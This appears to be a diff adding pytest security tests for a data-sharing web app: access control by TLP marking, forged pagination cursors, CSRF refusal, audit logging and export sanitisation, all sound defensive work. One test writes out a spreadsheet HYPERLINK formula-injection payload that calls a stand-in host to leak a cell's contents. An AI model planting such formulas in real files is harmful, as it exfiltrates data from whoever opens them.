@@ -1,0 +1,150 @@
+"""Attacks of the review: a colleague below a series' marking, a partner through the pages and the
+exports, forged cursors, cross-site posts, and reads that must leave a trace in the audit log."""
+
+from __future__ import annotations
+
+import base64
+import json
+import re
+
+from sqlalchemy import select
+
+from binational.audit.models import AuditEntry
+from binational.db import act_as_system
+from tests.conftest import sequence_audit
+from tests.flows import samples
+from tests.web.conftest import sign_in
+
+API = "/api/v1/flows"
+
+
+def _actions(db) -> list[str]:  # noqa: ANN001
+    sequence_audit(db)
+    with db.session() as session:
+        act_as_system(session)
+        return [e.action for e in session.scalars(select(AuditEntry).order_by(AuditEntry.seq))]
+
+
+def test_a_colleague_below_the_marking_can_neither_probe_nor_overwrite_a_red_series(client, cast, upload):
+    red = samples.seasonal("cbp-red-operation", 2020, 36, 900.0)
+    upload("us_supervisor", samples.long_csv(red), name="red.csv", marking="TLP:RED")
+    # the AMBER analyst of the same agency guesses the values: the counts must not confirm them
+    r = client.post(
+        f"{API}/imports",
+        headers={**cast["us_analyst"].headers, "Content-Type": "text/csv"},
+        params={"source": "guess.csv"},
+        content=samples.long_csv(red).encode(),
+    )
+    assert r.status_code == 422, r.text
+    assert r.json()["error"]["code"] == "invalid_input"
+    assert "unchanged" not in r.text
+    # nor may they overwrite it
+    other = [line.rsplit(",", 1)[0] + ",1" for line in red]
+    r = client.post(
+        f"{API}/imports",
+        headers={**cast["us_analyst"].headers, "Content-Type": "text/csv"},
+        params={"source": "overwrite.csv"},
+        content=samples.long_csv(other).encode(),
+    )
+    assert r.status_code == 422, r.text
+    items = client.get(f"{API}/series", headers=cast["us_supervisor"].headers, params={"limit": 1000}).json()["items"]
+    series_id = next(row["id"] for row in items if row["key"] == "cbp-red-operation")
+    values = client.get(f"{API}/series/{series_id}", headers=cast["us_supervisor"].headers).json()["values"]
+    assert [v["value"] for v in values] == [float(line.rsplit(",", 1)[1]) for line in red]
+
+
+def test_exported_cells_a_spreadsheet_would_run_are_written_as_text(client, cast, upload):
+    formula = '=HYPERLINK("http://example.invalid/?x="&A1)'
+    text = "series_id,month,value\n" + "\n".join(f'"{formula.replace(chr(34), chr(34) * 2)}",2024-{m:02d},{m}'
+                                                 for m in range(1, 13)) + "\n"
+    upload("us_analyst", text, name="formula.csv", distribution="national")
+    items = client.get(f"{API}/series", headers=cast["us_atf"].headers, params={"limit": 1000}).json()["items"]
+    series_id = next(row["id"] for row in items if row["key"] == formula)
+    api = client.get(f"{API}/series/{series_id}/export", headers=cast["us_atf"].headers)
+    sign_in(client, "us_analyst")
+    page = client.get(f"/flows/series/{series_id}/export.csv")
+    for answer in (api, page):
+        assert answer.status_code == 200
+        lines = answer.text.splitlines()[1:]
+        assert lines and all(line.startswith("\"'=HYPERLINK") for line in lines), lines[:2]
+
+
+def test_a_hidden_series_page_and_its_csv_answer_as_an_absent_one(client, cast, upload):
+    upload("us_analyst", samples.encounters(), name="enc.csv")  # the hidden id is not a lone digit
+    upload("us_analyst", samples.long_csv(samples.seasonal("cbp-page-secret", 2020, 24, 100.0)), name="s.csv")
+    items = client.get(f"{API}/series", headers=cast["us_analyst"].headers, params={"limit": 1000}).json()["items"]
+    hidden = next(row["id"] for row in items if row["key"] == "cbp-page-secret")
+    absent = hidden + 1000
+    sign_in(client, "mx_analyst")
+    for path in ("/flows/series/{}", "/flows/series/{}/export.csv"):
+        a = client.get(path.format(hidden))
+        b = client.get(path.format(absent))
+        assert a.status_code == b.status_code == 404
+        assert re.sub(rf"\b{hidden}\b", "ID", a.text) == re.sub(rf"\b{absent}\b", "ID", b.text)
+        assert "cbp-page-secret" not in a.text
+
+
+def test_forged_and_borrowed_cursors_show_nothing_hidden(client, cast, upload):
+    upload("us_analyst", samples.long_csv(*(samples.seasonal(f"cbp-own-{i}", 2020, 13, 10.0) for i in range(3))))
+    upload("us_analyst", samples.encounters(), name="enc.csv")
+    owner = client.get(f"{API}/series", headers=cast["us_analyst"].headers, params={"limit": 1}).json()
+    assert owner["next_cursor"]
+    # the owner's cursor, replayed by a partner, pages only through what the partner may see
+    r = client.get(f"{API}/series", headers=cast["mx_analyst"].headers, params={"cursor": owner["next_cursor"]})
+    assert r.status_code == 200 and all(row["public"] for row in r.json()["items"])
+    # a cursor written by hand (no signature, or another position) is refused in the one error shape
+    raw = base64.urlsafe_b64encode(json.dumps({"after": 0}).encode()).decode()
+    for forged in (raw, owner["next_cursor"][:-2] + "AA", "x" * 400):
+        r = client.get(f"{API}/series", headers=cast["mx_analyst"].headers, params={"cursor": forged})
+        assert r.status_code == 422 and r.json()["error"]["code"] == "invalid_input", r.text
+
+
+def test_the_subscription_form_refuses_a_cross_site_post(client, cast, upload):
+    upload("us_analyst", samples.encounters(), name="enc.csv")
+    sign_in(client, "mx_analyst")
+    r = client.post("/flows/subscriptions", data={"indicator": "us-cbp-encounters"}, follow_redirects=False)
+    assert r.status_code == 403
+    assert client.get(f"{API}/notices", headers=cast["mx_analyst"].headers).status_code == 200
+    r = client.post(f"{API}/subscriptions", headers=cast["mx_analyst"].headers, params={"indicator": "x"})
+    assert r.status_code == 404
+
+
+def test_every_list_of_indicators_and_alerts_is_audited(client, cast, upload, db):
+    upload("us_analyst", samples.encounters(), name="enc.csv")
+    before = _actions(db)
+    assert client.get(f"{API}/indicators", headers=cast["mx_analyst"].headers).status_code == 200
+    assert client.get(f"{API}/alerts", headers=cast["mx_analyst"].headers).status_code == 200
+    after = _actions(db)[len(before):]
+    assert after.count("flows.list") >= 1 and after.count("flows.alerts") >= 1, after
+
+
+def test_a_bad_policy_choice_on_import_is_refused_before_reading(client, cast):
+    for params in ({"marking": "TLP:PURPLE"}, {"distribution": "everyone"}, {"marking": "TLP:RED"}):
+        r = client.post(
+            f"{API}/imports",
+            headers={**cast["mx_analyst"].headers, "Content-Type": "text/csv"},
+            params=params,
+            content=b"series_id,month,value\nx,2024-01,1\n",
+        )
+        assert r.status_code == 422 and r.json()["error"]["code"] == "invalid_input", r.text
+    r = client.post(
+        f"{API}/imports",
+        headers={**cast["mx_analyst"].headers, "Content-Type": "text/csv"},
+        content=b"series_id,month,value\n" + b"x,2024-01,1\n" * 200_000,
+    )
+    assert r.status_code == 413
+
+
+def test_subscribing_on_the_page_to_a_hidden_indicator_is_like_an_unknown_one(client, cast, upload):
+    upload("us_analyst", samples.long_csv(samples.seasonal("cbp-quiet-sector", 2020, 24, 50.0)), name="q.csv")
+    upload("us_analyst", samples.encounters(), name="enc.csv")
+    csrf = sign_in(client, "mx_analyst")
+    answers = [
+        client.post("/flows/subscriptions", data={"indicator": name, "csrf": csrf}, follow_redirects=False)
+        for name in ("cbp-quiet-sector", "cbp-quiet-sectox")
+    ]
+    assert [a.status_code for a in answers] == [422, 422]
+    hidden, absent = (a.text.replace(n, "X") for a, n in zip(answers, ("sector", "sectox"), strict=True))
+    assert hidden == absent
+    assert 'data-testid="flows-series"' not in hidden  # the hidden indicator lists nothing
+    assert 'name="indicator"' in hidden and "us-cbp-encounters" in hidden  # the dashboard stays usable
